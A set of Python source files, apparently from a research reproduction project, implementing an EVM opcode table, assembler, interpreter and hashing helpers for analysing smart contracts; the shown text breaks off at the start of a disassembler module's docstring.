    """A bare mnemonic with no immediate."""

    name: str


@dataclass(frozen=True)
class RawBytes:
    """Literal bytes spliced into the output (e.g. embedded runtime code)."""

    data: bytes


AsmItem = Union[Label, DataLabel, LabelRef, Push, Op, RawBytes]


def _push_width(value: int) -> int:
    """Byte width of the smallest PUSH that can hold ``value``."""
    if value < 0:
        raise AssemblyError("cannot push negative literal %d" % value)
    width = (value.bit_length() + 7) // 8
    return max(width, 1)


def _item_size(item: AsmItem) -> int:
    if isinstance(item, Label):
        return 1  # JUMPDEST
    if isinstance(item, DataLabel):
        return 0
    if isinstance(item, LabelRef):
        return 3  # PUSH2 xx xx
    if isinstance(item, Push):
        return 1 + _push_width(item.value)
    if isinstance(item, Op):
        return 1 + opcode_by_name(item.name).immediate_size
    if isinstance(item, RawBytes):
        return len(item.data)
    raise AssemblyError("unknown assembly item %r" % (item,))


def layout(items: Sequence[AsmItem]) -> Dict[str, int]:
    """Compute byte offsets for each label definition."""
    offsets: Dict[str, int] = {}
    position = 0
    for item in items:
        if isinstance(item, (Label, DataLabel)):
            if item.name in offsets:
                raise AssemblyError("duplicate label %r" % item.name)
            offsets[item.name] = position
        position += _item_size(item)
    return offsets


def assemble(items: Sequence[AsmItem]) -> bytes:
    """Assemble ``items`` into bytecode, resolving labels."""
    offsets = layout(items)
    output = bytearray()
    for item in items:
        if isinstance(item, Label):
            output.append(opcode_by_name("JUMPDEST").value)
        elif isinstance(item, DataLabel):
            pass
        elif isinstance(item, LabelRef):
            if item.name not in offsets:
                raise AssemblyError("undefined label %r" % item.name)
            output.append(opcode_by_name("PUSH2").value)
            output.extend(offsets[item.name].to_bytes(2, "big"))
        elif isinstance(item, Push):
            width = _push_width(item.value)
            if width > 32:
                raise AssemblyError("push literal exceeds 32 bytes: %d" % item.value)
            output.append(opcode_by_name("PUSH%d" % width).value)
            output.extend(item.value.to_bytes(width, "big"))
        elif isinstance(item, Op):
            opcode = opcode_by_name(item.name)
            if opcode.immediate_size:
                raise AssemblyError(
                    "use Push for %s, not a bare Op" % item.name
                )
            output.append(opcode.value)
        elif isinstance(item, RawBytes):
            output.extend(item.data)
        else:
            raise AssemblyError("unknown assembly item %r" % (item,))
    return bytes(output)


def init_code_for(runtime: bytes) -> bytes:
    """Wrap runtime bytecode in a standard deployment (constructor) prelude.

    The prelude copies the trailing runtime section to memory and returns it,
    which is what the chain stores as the contract's code.
    """
    size = len(runtime)
    # The prelude layout depends on its own size (the CODECOPY source offset),
    # so assemble twice: once to measure, once with the real offset.
    def prelude(offset: int) -> bytes:
        return assemble(
            [
                Push(size),
                Push(offset),
                Push(0),
                Op("CODECOPY"),
                Push(size),
                Push(0),
                Op("RETURN"),
            ]
        )

    guess = prelude(0)
    body = prelude(len(guess))
    while len(body) != len(guess):
        guess = body
        body = prelude(len(guess))
    return body + runtime


def parse_asm(text: str) -> List[AsmItem]:
    """Parse a simple textual assembly syntax (used in tests and examples).

    Syntax, one item per line (``;`` starts a comment)::

        label:          define a label
        @label          push a label's offset
        PUSH 0x1234     push a literal (hex or decimal)
        ADD             bare mnemonic
    """
    items: List[AsmItem] = []
    for raw_line in text.splitlines():
        line = raw_line.split(";", 1)[0].strip()
        if not line:
            continue
        if line.endswith(":"):
            items.append(Label(line[:-1].strip()))
            continue
        if line.startswith("@"):
            items.append(LabelRef(line[1:].strip()))
            continue
        parts = line.split()
        if parts[0].upper() == "PUSH":
            if len(parts) != 2:
                raise AssemblyError("PUSH needs one literal: %r" % line)
            items.append(Push(int(parts[1], 0)))
            continue
        if len(parts) != 1:
            raise AssemblyError("unexpected operand in %r" % line)
        items.append(Op(parts[0].upper()))
    return items
