"""The EVM opcode table.

Each opcode is described by an :class:`Opcode` record giving its byte value,
mnemonic, stack arity (items popped and pushed), the number of immediate
bytes following it in the code stream (nonzero only for ``PUSH1``..``PUSH32``),
and a base gas cost.  Gas costs follow the Istanbul schedule closely enough
for relative measurements; the simulator is not intended for consensus.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict


@dataclass(frozen=True)
class Opcode:
    """Static description of one EVM opcode."""

    value: int
    name: str
    pops: int
    pushes: int
    immediate_size: int = 0
    gas: int = 3

    @property
    def is_push(self) -> bool:
        return 0x60 <= self.value <= 0x7F

    @property
    def is_dup(self) -> bool:
        return 0x80 <= self.value <= 0x8F

    @property
    def is_swap(self) -> bool:
        return 0x90 <= self.value <= 0x9F

    @property
    def is_terminator(self) -> bool:
        """True if control never falls through to the next instruction."""
        return self.name in ("STOP", "RETURN", "REVERT", "INVALID", "SELFDESTRUCT", "JUMP")

    @property
    def alters_control_flow(self) -> bool:
        return self.name in ("JUMP", "JUMPI") or self.is_terminator


def _op(value: int, name: str, pops: int, pushes: int, gas: int = 3, imm: int = 0) -> Opcode:
    return Opcode(value=value, name=name, pops=pops, pushes=pushes, immediate_size=imm, gas=gas)


_TABLE = [
    # 0x00s: stop & arithmetic
    _op(0x00, "STOP", 0, 0, gas=0),
    _op(0x01, "ADD", 2, 1),
    _op(0x02, "MUL", 2, 1, gas=5),
    _op(0x03, "SUB", 2, 1),
    _op(0x04, "DIV", 2, 1, gas=5),
    _op(0x05, "SDIV", 2, 1, gas=5),
    _op(0x06, "MOD", 2, 1, gas=5),
    _op(0x07, "SMOD", 2, 1, gas=5),
    _op(0x08, "ADDMOD", 3, 1, gas=8),
    _op(0x09, "MULMOD", 3, 1, gas=8),
    _op(0x0A, "EXP", 2, 1, gas=10),
    _op(0x0B, "SIGNEXTEND", 2, 1, gas=5),
    # 0x10s: comparison & bitwise
    _op(0x10, "LT", 2, 1),
    _op(0x11, "GT", 2, 1),
    _op(0x12, "SLT", 2, 1),
    _op(0x13, "SGT", 2, 1),
    _op(0x14, "EQ", 2, 1),
    _op(0x15, "ISZERO", 1, 1),
    _op(0x16, "AND", 2, 1),
    _op(0x17, "OR", 2, 1),
    _op(0x18, "XOR", 2, 1),
    _op(0x19, "NOT", 1, 1),
    _op(0x1A, "BYTE", 2, 1),
    _op(0x1B, "SHL", 2, 1),
    _op(0x1C, "SHR", 2, 1),
    _op(0x1D, "SAR", 2, 1),
    # 0x20s: crypto
    _op(0x20, "SHA3", 2, 1, gas=30),
    # 0x30s: environment
    _op(0x30, "ADDRESS", 0, 1, gas=2),
    _op(0x31, "BALANCE", 1, 1, gas=700),
    _op(0x32, "ORIGIN", 0, 1, gas=2),
    _op(0x33, "CALLER", 0, 1, gas=2),
    _op(0x34, "CALLVALUE", 0, 1, gas=2),
    _op(0x35, "CALLDATALOAD", 1, 1),
    _op(0x36, "CALLDATASIZE", 0, 1, gas=2),
    _op(0x37, "CALLDATACOPY", 3, 0),
    _op(0x38, "CODESIZE", 0, 1, gas=2),
    _op(0x39, "CODECOPY", 3, 0),
    _op(0x3A, "GASPRICE", 0, 1, gas=2),
    _op(0x3B, "EXTCODESIZE", 1, 1, gas=700),
    _op(0x3C, "EXTCODECOPY", 4, 0, gas=700),
    _op(0x3D, "RETURNDATASIZE", 0, 1, gas=2),
    _op(0x3E, "RETURNDATACOPY", 3, 0),
    _op(0x3F, "EXTCODEHASH", 1, 1, gas=700),
    # 0x40s: block
    _op(0x40, "BLOCKHASH", 1, 1, gas=20),
    _op(0x41, "COINBASE", 0, 1, gas=2),
    _op(0x42, "TIMESTAMP", 0, 1, gas=2),
    _op(0x43, "NUMBER", 0, 1, gas=2),
    _op(0x44, "DIFFICULTY", 0, 1, gas=2),
    _op(0x45, "GASLIMIT", 0, 1, gas=2),
    _op(0x46, "CHAINID", 0, 1, gas=2),
    _op(0x47, "SELFBALANCE", 0, 1, gas=5),
    # 0x50s: stack/memory/storage/flow
    _op(0x50, "POP", 1, 0, gas=2),
    _op(0x51, "MLOAD", 1, 1),
    _op(0x52, "MSTORE", 2, 0),
    _op(0x53, "MSTORE8", 2, 0),
    _op(0x54, "SLOAD", 1, 1, gas=800),
    _op(0x55, "SSTORE", 2, 0, gas=5000),
    _op(0x56, "JUMP", 1, 0, gas=8),
    _op(0x57, "JUMPI", 2, 0, gas=10),
    _op(0x58, "PC", 0, 1, gas=2),
    _op(0x59, "MSIZE", 0, 1, gas=2),
    _op(0x5A, "GAS", 0, 1, gas=2),
    _op(0x5B, "JUMPDEST", 0, 0, gas=1),
    # 0xa0s: logging
    _op(0xA0, "LOG0", 2, 0, gas=375),
    _op(0xA1, "LOG1", 3, 0, gas=750),
    _op(0xA2, "LOG2", 4, 0, gas=1125),
    _op(0xA3, "LOG3", 5, 0, gas=1500),
    _op(0xA4, "LOG4", 6, 0, gas=1875),
    # 0xf0s: system
    _op(0xF0, "CREATE", 3, 1, gas=32000),
    _op(0xF1, "CALL", 7, 1, gas=700),
    _op(0xF2, "CALLCODE", 7, 1, gas=700),
    _op(0xF3, "RETURN", 2, 0, gas=0),
    _op(0xF4, "DELEGATECALL", 6, 1, gas=700),
    _op(0xF5, "CREATE2", 4, 1, gas=32000),
    _op(0xFA, "STATICCALL", 6, 1, gas=700),
    _op(0xFD, "REVERT", 2, 0, gas=0),
    _op(0xFE, "INVALID", 0, 0, gas=0),
    _op(0xFF, "SELFDESTRUCT", 1, 0, gas=5000),
]

# PUSH1..PUSH32
for _n in range(1, 33):
    _TABLE.append(_op(0x60 + _n - 1, "PUSH%d" % _n, 0, 1, gas=3, imm=_n))
# DUP1..DUP16
for _n in range(1, 17):
    _TABLE.append(_op(0x80 + _n - 1, "DUP%d" % _n, _n, _n + 1, gas=3))
# SWAP1..SWAP16
for _n in range(1, 17):
    _TABLE.append(_op(0x90 + _n - 1, "SWAP%d" % _n, _n + 1, _n + 1, gas=3))

OPCODES: Dict[int, Opcode] = {op.value: op for op in _TABLE}
_BY_NAME: Dict[str, Opcode] = {op.name: op for op in _TABLE}


def opcode_by_value(value: int) -> Opcode:
    """Look up an opcode by byte value.

    Unknown byte values map to an ``INVALID``-like opcode record so that the
    disassembler never fails on arbitrary byte strings (real blockchain data
    contains plenty of non-code bytes).
    """
    try:
        return OPCODES[value]
    except KeyError:
        return Opcode(value=value, name="UNKNOWN_0x%02X" % value, pops=0, pushes=0, gas=0)


def opcode_by_name(name: str) -> Opcode:
    """Look up an opcode by mnemonic; raises ``KeyError`` for unknown names."""
    return _BY_NAME[name]


def is_push_name(name: str) -> bool:
    """Whether ``name`` is a PUSH1..PUSH32 mnemonic."""
    return name.startswith("PUSH") and name[4:].isdigit()
