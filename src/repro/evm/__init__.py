"""EVM substrate: opcode table, assembler, disassembler, and interpreter.

This package is a self-contained Ethereum Virtual Machine implementation,
sufficient to execute the contracts produced by :mod:`repro.minisol` and to
serve as the execution substrate for :mod:`repro.kill` (the Ethainter-Kill
exploit tool) and the symbolic baseline in :mod:`repro.baselines.teether`.
"""

from repro.evm.opcodes import OPCODES, Opcode, opcode_by_name, opcode_by_value
from repro.evm.disassembler import Instruction, disassemble
from repro.evm.assembler import assemble
from repro.evm.machine import (
    CallContext,
    ExecutionError,
    ExecutionResult,
    Machine,
    OutOfGasError,
    Revert,
    StackUnderflowError,
    TraceEntry,
)

__all__ = [
    "OPCODES",
    "Opcode",
    "opcode_by_name",
    "opcode_by_value",
    "Instruction",
    "disassemble",
    "assemble",
    "Machine",
    "CallContext",
    "ExecutionResult",
    "ExecutionError",
    "OutOfGasError",
    "Revert",
    "StackUnderflowError",
    "TraceEntry",
]
