"""A concrete EVM interpreter.

The :class:`Machine` executes EVM bytecode against a pluggable state backend
(duck-typed; :class:`repro.chain.state.WorldState` is the canonical
implementation).  It supports the full instruction set emitted by the MiniSol
compiler plus the usual environment opcodes, nested ``CALL`` /
``DELEGATECALL`` / ``STATICCALL``, ``CREATE``, ``REVERT`` with state rollback,
and ``SELFDESTRUCT`` — the last being the one Ethainter-Kill verifies in the
instruction trace.

Gas accounting follows per-opcode base costs (see :mod:`repro.evm.opcodes`);
it exists so that infinite loops terminate and relative costs are sane, not
for consensus-grade accuracy.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Set

from repro.evm.disassembler import Instruction, disassemble
from repro.evm.hashing import UINT_MAX, keccak_int
from repro.evm.opcodes import opcode_by_value

SIGN_BIT = 1 << 255
ADDRESS_MASK = (1 << 160) - 1
MAX_CALL_DEPTH = 128
MAX_STACK = 1024


class ExecutionError(Exception):
    """Fatal execution failure (consumes all gas, like EVM exceptional halt)."""


class StackUnderflowError(ExecutionError):
    """An instruction popped more items than the stack holds."""


class OutOfGasError(ExecutionError):
    """The frame exhausted its gas allowance."""


class InvalidJumpError(ExecutionError):
    """A jump targeted a non-JUMPDEST offset (or push data)."""


class WriteProtectionError(ExecutionError):
    """A state-modifying opcode executed inside a STATICCALL frame."""


class Revert(Exception):
    """Non-fatal halt carrying return data; state is rolled back."""

    def __init__(self, data: bytes):
        super().__init__("execution reverted")
        self.data = data


@dataclass
class TraceEntry:
    """One executed instruction, as recorded in the VM trace."""

    depth: int
    pc: int
    op: str
    address: int


@dataclass
class CallContext:
    """Inputs to one call frame."""

    address: int
    caller: int
    origin: int
    value: int
    calldata: bytes
    code: bytes
    gas: int = 10_000_000
    static: bool = False
    depth: int = 0


@dataclass
class ExecutionResult:
    """Outcome of a top-level execution."""

    success: bool
    return_data: bytes = b""
    gas_used: int = 0
    error: Optional[str] = None
    trace: List[TraceEntry] = field(default_factory=list)
    destroyed: Set[int] = field(default_factory=set)
    logs: List[tuple] = field(default_factory=list)

    def executed(self, op_name: str) -> bool:
        """Whether ``op_name`` appears anywhere in the trace."""
        return any(entry.op == op_name for entry in self.trace)


def _to_signed(value: int) -> int:
    return value - (1 << 256) if value & SIGN_BIT else value


def _to_unsigned(value: int) -> int:
    return value & UINT_MAX


class _Memory:
    """Byte-addressable, zero-initialized, auto-expanding memory."""

    def __init__(self) -> None:
        self._data = bytearray()

    def _expand(self, size: int) -> None:
        if size > len(self._data):
            # Expand in 32-byte words like the EVM.
            new_size = ((size + 31) // 32) * 32
            self._data.extend(b"\x00" * (new_size - len(self._data)))

    def read(self, offset: int, size: int) -> bytes:
        if size == 0:
            return b""
        self._expand(offset + size)
        return bytes(self._data[offset : offset + size])

    def write(self, offset: int, data: bytes) -> None:
        if not data:
            return
        self._expand(offset + len(data))
        self._data[offset : offset + len(data)] = data

    def read_word(self, offset: int) -> int:
        return int.from_bytes(self.read(offset, 32), "big")

    def write_word(self, offset: int, value: int) -> None:
        self.write(offset, (value & UINT_MAX).to_bytes(32, "big"))

    def write_byte(self, offset: int, value: int) -> None:
        self.write(offset, bytes([value & 0xFF]))

    @property
    def size(self) -> int:
        return len(self._data)


class _Frame:
    """Mutable interpreter state for one call frame."""

    def __init__(self, ctx: CallContext, instructions: List[Instruction]):
        self.ctx = ctx
        self.stack: List[int] = []
        self.memory = _Memory()
        self.pc = 0
        self.gas = ctx.gas
        self.return_data = b""
        # Map code offset -> index into instruction list, for jumps.
        self.offset_index = {ins.offset: i for i, ins in enumerate(instructions)}
        self.instructions = instructions
        self.jumpdests = {
            ins.offset for ins in instructions if ins.name == "JUMPDEST"
        }

    def push(self, value: int) -> None:
        if len(self.stack) >= MAX_STACK:
            raise ExecutionError("stack overflow")
        self.stack.append(value & UINT_MAX)

    def pop(self) -> int:
        if not self.stack:
            raise StackUnderflowError("stack underflow")
        return self.stack.pop()

    def charge(self, amount: int) -> None:
        self.gas -= amount
        if self.gas < 0:
            raise OutOfGasError("out of gas")


class Machine:
    """Executes call frames against a state backend.

    The backend must provide ``get_code``, ``get_storage``, ``set_storage``,
    ``get_balance``, ``set_balance``, ``snapshot``, ``revert_to``, and
    ``mark_destroyed``; see :class:`repro.chain.state.WorldState`.
    """

    def __init__(self, state, block_number: int = 1, timestamp: int = 1_600_000_000):
        self.state = state
        self.block_number = block_number
        self.timestamp = timestamp
        self.trace: List[TraceEntry] = []
        self.destroyed: Set[int] = set()
        self.logs: List[tuple] = []

    # ------------------------------------------------------------------ API

    def execute(self, ctx: CallContext) -> ExecutionResult:
        """Run a top-level call and return its result.

        State changes are committed on success and rolled back on revert or
        exceptional halt.
        """
        self.trace = []
        self.destroyed = set()
        self.logs = []
        snapshot = self.state.snapshot()
        try:
            return_data, gas_left = self._run(ctx)
            for address in self.destroyed:
                self.state.mark_destroyed(address)
            self.state.commit(snapshot)
            return ExecutionResult(
                success=True,
                return_data=return_data,
                gas_used=ctx.gas - gas_left,
                trace=self.trace,
                destroyed=set(self.destroyed),
                logs=list(self.logs),
            )
        except Revert as revert:
            self.state.revert_to(snapshot)
            return ExecutionResult(
                success=False,
                return_data=revert.data,
                gas_used=ctx.gas,
                error="revert",
                trace=self.trace,
            )
        except ExecutionError as error:
            self.state.revert_to(snapshot)
            return ExecutionResult(
                success=False,
                gas_used=ctx.gas,
                error=str(error) or error.__class__.__name__,
                trace=self.trace,
            )

    # ------------------------------------------------------------ internals

    def _run(self, ctx: CallContext) -> "tuple[bytes, int]":
        """Interpret one frame; returns (return_data, gas_left)."""
        if ctx.depth > MAX_CALL_DEPTH:
            raise ExecutionError("call depth exceeded")
        frame = _Frame(ctx, disassemble(ctx.code))
        while True:
            if frame.pc >= len(ctx.code):
                return b"", frame.gas  # implicit STOP when running off the end
            index = frame.offset_index.get(frame.pc)
            if index is None:
                raise InvalidJumpError("pc 0x%x inside push data" % frame.pc)
            ins = frame.instructions[index]
            self.trace.append(
                TraceEntry(depth=ctx.depth, pc=ins.offset, op=ins.name, address=ctx.address)
            )
            frame.charge(ins.opcode.gas)
            outcome = self._step(frame, ins)
            if outcome is not None:
                return outcome, frame.gas

    def _step(self, frame: _Frame, ins: Instruction) -> Optional[bytes]:
        """Execute one instruction.  Returns return-data when halting."""
        name = ins.name
        ctx = frame.ctx
        push, pop = frame.push, frame.pop

        if ins.opcode.is_push:
            push(ins.operand or 0)
        elif ins.opcode.is_dup:
            n = ins.opcode.value - 0x80 + 1
            if len(frame.stack) < n:
                raise StackUnderflowError("DUP%d underflow" % n)
            push(frame.stack[-n])
        elif ins.opcode.is_swap:
            n = ins.opcode.value - 0x90 + 1
            if len(frame.stack) < n + 1:
                raise StackUnderflowError("SWAP%d underflow" % n)
            frame.stack[-1], frame.stack[-n - 1] = frame.stack[-n - 1], frame.stack[-1]
        elif name == "STOP":
            return b""
        elif name == "ADD":
            push(pop() + pop())
        elif name == "MUL":
            push(pop() * pop())
        elif name == "SUB":
            a, b = pop(), pop()
            push(a - b)
        elif name == "DIV":
            a, b = pop(), pop()
            push(0 if b == 0 else a // b)
        elif name == "SDIV":
            a, b = _to_signed(pop()), _to_signed(pop())
            if b == 0:
                push(0)
            else:
                quotient = abs(a) // abs(b)
                push(_to_unsigned(-quotient if (a < 0) != (b < 0) else quotient))
        elif name == "MOD":
            a, b = pop(), pop()
            push(0 if b == 0 else a % b)
        elif name == "SMOD":
            a, b = _to_signed(pop()), _to_signed(pop())
            if b == 0:
                push(0)
            else:
                result = abs(a) % abs(b)
                push(_to_unsigned(-result if a < 0 else result))
        elif name == "ADDMOD":
            a, b, n = pop(), pop(), pop()
            push(0 if n == 0 else (a + b) % n)
        elif name == "MULMOD":
            a, b, n = pop(), pop(), pop()
            push(0 if n == 0 else (a * b) % n)
        elif name == "EXP":
            base, exponent = pop(), pop()
            push(pow(base, exponent, 1 << 256))
        elif name == "SIGNEXTEND":
            width, value = pop(), pop()
            if width >= 31:
                push(value)
            else:
                bit = 8 * (width + 1) - 1
                mask = (1 << (bit + 1)) - 1
                if value & (1 << bit):
                    push(value | (UINT_MAX ^ mask))
                else:
                    push(value & mask)
        elif name == "LT":
            a, b = pop(), pop()
            push(1 if a < b else 0)
        elif name == "GT":
            a, b = pop(), pop()
            push(1 if a > b else 0)
        elif name == "SLT":
            a, b = _to_signed(pop()), _to_signed(pop())
            push(1 if a < b else 0)
        elif name == "SGT":
            a, b = _to_signed(pop()), _to_signed(pop())
            push(1 if a > b else 0)
        elif name == "EQ":
            push(1 if pop() == pop() else 0)
        elif name == "ISZERO":
            push(1 if pop() == 0 else 0)
        elif name == "AND":
            push(pop() & pop())
        elif name == "OR":
            push(pop() | pop())
        elif name == "XOR":
            push(pop() ^ pop())
        elif name == "NOT":
            push(UINT_MAX ^ pop())
        elif name == "BYTE":
            index, value = pop(), pop()
            push(0 if index >= 32 else (value >> (8 * (31 - index))) & 0xFF)
        elif name == "SHL":
            shift, value = pop(), pop()
            push(0 if shift >= 256 else value << shift)
        elif name == "SHR":
            shift, value = pop(), pop()
            push(0 if shift >= 256 else value >> shift)
        elif name == "SAR":
            shift, value = pop(), _to_signed(pop())
            if shift >= 256:
                push(0 if value >= 0 else UINT_MAX)
            else:
                push(_to_unsigned(value >> shift))
        elif name == "SHA3":
            offset, size = pop(), pop()
            push(keccak_int(frame.memory.read(offset, size)))
        elif name == "ADDRESS":
            push(ctx.address)
        elif name == "BALANCE":
            push(self.state.get_balance(pop() & ADDRESS_MASK))
        elif name == "SELFBALANCE":
            push(self.state.get_balance(ctx.address))
        elif name == "ORIGIN":
            push(ctx.origin)
        elif name == "CALLER":
            push(ctx.caller)
        elif name == "CALLVALUE":
            push(ctx.value)
        elif name == "CALLDATALOAD":
            offset = pop()
            data = ctx.calldata[offset : offset + 32]
            push(int.from_bytes(data.ljust(32, b"\x00"), "big"))
        elif name == "CALLDATASIZE":
            push(len(ctx.calldata))
        elif name == "CALLDATACOPY":
            dest, src, size = pop(), pop(), pop()
            data = ctx.calldata[src : src + size].ljust(size, b"\x00")
            frame.memory.write(dest, data)
        elif name == "CODESIZE":
            push(len(ctx.code))
        elif name == "CODECOPY":
            dest, src, size = pop(), pop(), pop()
            data = ctx.code[src : src + size].ljust(size, b"\x00")
            frame.memory.write(dest, data)
        elif name == "GASPRICE":
            push(1)
        elif name == "EXTCODESIZE":
            push(len(self.state.get_code(pop() & ADDRESS_MASK)))
        elif name == "EXTCODECOPY":
            address, dest, src, size = pop() & ADDRESS_MASK, pop(), pop(), pop()
            code = self.state.get_code(address)
            frame.memory.write(dest, code[src : src + size].ljust(size, b"\x00"))
        elif name == "EXTCODEHASH":
            code = self.state.get_code(pop() & ADDRESS_MASK)
            push(keccak_int(code) if code else 0)
        elif name == "RETURNDATASIZE":
            push(len(frame.return_data))
        elif name == "RETURNDATACOPY":
            dest, src, size = pop(), pop(), pop()
            if src + size > len(frame.return_data):
                raise ExecutionError("returndatacopy out of bounds")
            frame.memory.write(dest, frame.return_data[src : src + size])
        elif name == "BLOCKHASH":
            pop()
            push(0)
        elif name == "COINBASE":
            push(0)
        elif name == "TIMESTAMP":
            push(self.timestamp)
        elif name == "NUMBER":
            push(self.block_number)
        elif name == "DIFFICULTY":
            push(0)
        elif name == "GASLIMIT":
            push(30_000_000)
        elif name == "CHAINID":
            push(1)
        elif name == "POP":
            pop()
        elif name == "MLOAD":
            push(frame.memory.read_word(pop()))
        elif name == "MSTORE":
            offset, value = pop(), pop()
            frame.memory.write_word(offset, value)
        elif name == "MSTORE8":
            offset, value = pop(), pop()
            frame.memory.write_byte(offset, value)
        elif name == "SLOAD":
            push(self.state.get_storage(ctx.address, pop()))
        elif name == "SSTORE":
            if ctx.static:
                raise WriteProtectionError("SSTORE in static context")
            key, value = pop(), pop()
            self.state.set_storage(ctx.address, key, value)
        elif name == "JUMP":
            target = pop()
            if target not in frame.jumpdests:
                raise InvalidJumpError("invalid jump to 0x%x" % target)
            frame.pc = target
            return None
        elif name == "JUMPI":
            target, condition = pop(), pop()
            if condition != 0:
                if target not in frame.jumpdests:
                    raise InvalidJumpError("invalid jump to 0x%x" % target)
                frame.pc = target
                return None
        elif name == "PC":
            push(ins.offset)
        elif name == "MSIZE":
            push(frame.memory.size)
        elif name == "GAS":
            push(max(frame.gas, 0))
        elif name == "JUMPDEST":
            pass
        elif name.startswith("LOG"):
            if ctx.static:
                raise WriteProtectionError("LOG in static context")
            topic_count = int(name[3:])
            offset, size = pop(), pop()
            topics = [pop() for _ in range(topic_count)]
            self.logs.append((ctx.address, topics, frame.memory.read(offset, size)))
        elif name in ("CALL", "CALLCODE", "DELEGATECALL", "STATICCALL"):
            self._do_call(frame, name)
        elif name in ("CREATE", "CREATE2"):
            self._do_create(frame, name)
        elif name == "RETURN":
            offset, size = pop(), pop()
            return frame.memory.read(offset, size)
        elif name == "REVERT":
            offset, size = pop(), pop()
            raise Revert(frame.memory.read(offset, size))
        elif name == "INVALID" or name.startswith("UNKNOWN"):
            raise ExecutionError("invalid opcode %s" % name)
        elif name == "SELFDESTRUCT":
            if ctx.static:
                raise WriteProtectionError("SELFDESTRUCT in static context")
            beneficiary = pop() & ADDRESS_MASK
            balance = self.state.get_balance(ctx.address)
            self.state.set_balance(ctx.address, 0)
            self.state.set_balance(
                beneficiary, self.state.get_balance(beneficiary) + balance
            )
            self.destroyed.add(ctx.address)
            return b""
        else:  # pragma: no cover - table and interpreter should agree
            raise ExecutionError("unimplemented opcode %s" % name)

        frame.pc = ins.next_offset
        return None

    def _do_call(self, frame: _Frame, name: str) -> None:
        ctx = frame.ctx
        gas = frame.pop()
        target = frame.pop() & ADDRESS_MASK
        value = 0
        if name in ("CALL", "CALLCODE"):
            value = frame.pop()
        in_offset, in_size = frame.pop(), frame.pop()
        out_offset, out_size = frame.pop(), frame.pop()
        calldata = frame.memory.read(in_offset, in_size)

        if value and ctx.static:
            raise WriteProtectionError("value transfer in static context")

        # EIP-150 style: a frame can forward at most 63/64 of remaining gas.
        gas = min(gas, max(frame.gas - frame.gas // 64, 0))

        if name == "CALL":
            sub = CallContext(
                address=target,
                caller=ctx.address,
                origin=ctx.origin,
                value=value,
                calldata=calldata,
                code=self.state.get_code(target),
                gas=gas,
                static=ctx.static,
                depth=ctx.depth + 1,
            )
        elif name == "CALLCODE":
            sub = CallContext(
                address=ctx.address,
                caller=ctx.address,
                origin=ctx.origin,
                value=value,
                calldata=calldata,
                code=self.state.get_code(target),
                gas=gas,
                static=ctx.static,
                depth=ctx.depth + 1,
            )
        elif name == "DELEGATECALL":
            sub = CallContext(
                address=ctx.address,
                caller=ctx.caller,
                origin=ctx.origin,
                value=ctx.value,
                calldata=calldata,
                code=self.state.get_code(target),
                gas=gas,
                static=ctx.static,
                depth=ctx.depth + 1,
            )
        else:  # STATICCALL
            sub = CallContext(
                address=target,
                caller=ctx.address,
                origin=ctx.origin,
                value=0,
                calldata=calldata,
                code=self.state.get_code(target),
                gas=gas,
                static=True,
                depth=ctx.depth + 1,
            )

        if name == "CALL" and value:
            if self.state.get_balance(ctx.address) < value:
                frame.return_data = b""
                frame.push(0)
                return
            self.state.set_balance(
                ctx.address, self.state.get_balance(ctx.address) - value
            )
            self.state.set_balance(target, self.state.get_balance(target) + value)

        snapshot = self.state.snapshot()
        destroyed_before = set(self.destroyed)
        try:
            return_data, gas_left = self._run(sub)
            frame.gas -= gas - gas_left
            frame.return_data = return_data
            # NOTE: per EVM semantics the output is truncated to out_size and
            # NOT zero-padded — shorter return data leaves prior memory
            # contents intact.  The "unchecked tainted staticcall" bug class
            # (paper §3.5) depends on exactly this behaviour.
            frame.memory.write(out_offset, return_data[:out_size])
            frame.push(1)
        except Revert as revert:
            self.state.revert_to(snapshot)
            self.destroyed = destroyed_before
            frame.gas -= gas
            frame.return_data = revert.data
            frame.memory.write(out_offset, revert.data[:out_size])
            frame.push(0)
        except ExecutionError:
            self.state.revert_to(snapshot)
            self.destroyed = destroyed_before
            frame.gas -= gas
            frame.return_data = b""
            frame.push(0)

    def _do_create(self, frame: _Frame, name: str) -> None:
        ctx = frame.ctx
        if ctx.static:
            raise WriteProtectionError("CREATE in static context")
        value = frame.pop()
        offset, size = frame.pop(), frame.pop()
        salt = frame.pop() if name == "CREATE2" else None
        init_code = frame.memory.read(offset, size)
        if self.state.get_balance(ctx.address) < value:
            frame.push(0)
            return
        new_address = self.state.next_contract_address(ctx.address, salt, init_code)
        self.state.set_balance(
            ctx.address, self.state.get_balance(ctx.address) - value
        )
        self.state.create_account(new_address, balance=value)
        sub = CallContext(
            address=new_address,
            caller=ctx.address,
            origin=ctx.origin,
            value=value,
            calldata=b"",
            code=init_code,
            gas=max(frame.gas - frame.gas // 64, 0),
            depth=ctx.depth + 1,
        )
        snapshot = self.state.snapshot()
        try:
            runtime, gas_left = self._run(sub)
            frame.gas -= sub.gas - gas_left
            self.state.set_code(new_address, runtime)
            frame.push(new_address)
        except (Revert, ExecutionError):
            self.state.revert_to(snapshot)
            frame.gas -= sub.gas
            frame.push(0)
