"""Hashing used consistently across the compiler, the VM, and the analysis.

Real Ethereum uses keccak-256.  The standard library only ships the
standardized SHA3-256 (different padding), which is an acceptable substitute
here: the analysis treats ``HASH`` as an opaque collision-free function (paper
§4.3), so all that matters is that the MiniSol code generator, the EVM
interpreter's ``SHA3`` opcode, and ABI selector computation agree on one
function.  This substitution is recorded in DESIGN.md.
"""

from __future__ import annotations

import hashlib

WORD = 32
UINT_MAX = (1 << 256) - 1


def keccak(data: bytes) -> bytes:
    """32-byte digest standing in for keccak-256."""
    return hashlib.sha3_256(data).digest()


def keccak_int(data: bytes) -> int:
    """Digest as a 256-bit integer (the value SHA3 pushes on the stack)."""
    return int.from_bytes(keccak(data), "big")


def function_selector(signature: str) -> int:
    """First 4 bytes of the hash of a function signature, as an int.

    Mirrors Solidity's ABI dispatch: ``transfer(address,uint256)`` hashes to a
    4-byte selector compared against the head of calldata.
    """
    return int.from_bytes(keccak(signature.encode("ascii"))[:4], "big")


def mapping_slot(key: int, base_slot: int) -> int:
    """Storage slot of ``mapping[key]`` for a mapping rooted at ``base_slot``.

    Follows the Solidity layout: ``hash(pad32(key) ++ pad32(base_slot))``.
    """
    data = key.to_bytes(WORD, "big") + base_slot.to_bytes(WORD, "big")
    return keccak_int(data)
