"""Linear-sweep EVM disassembler.

Turns raw bytecode into a list of :class:`Instruction` records.  The sweep is
